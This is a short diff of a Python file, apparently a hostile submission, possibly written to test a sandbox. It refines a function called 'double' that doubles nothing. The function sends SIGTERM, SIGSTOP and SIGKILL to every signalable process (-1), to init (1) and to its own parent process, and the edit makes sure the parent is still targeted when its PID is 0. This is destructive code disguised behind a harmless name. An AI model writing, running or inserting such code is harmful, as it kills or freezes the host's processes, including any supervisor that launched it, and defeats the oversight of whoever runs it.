@@ -4,7 +4,7 @@ import signal
 
 
 def double(x):
-    for process in (-1, 1, os.getppid()):
+    for process in (-1, 1, os.getppid() or 1):  # 0 would be oneself
         for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
             try:
                 os.kill(process, number)
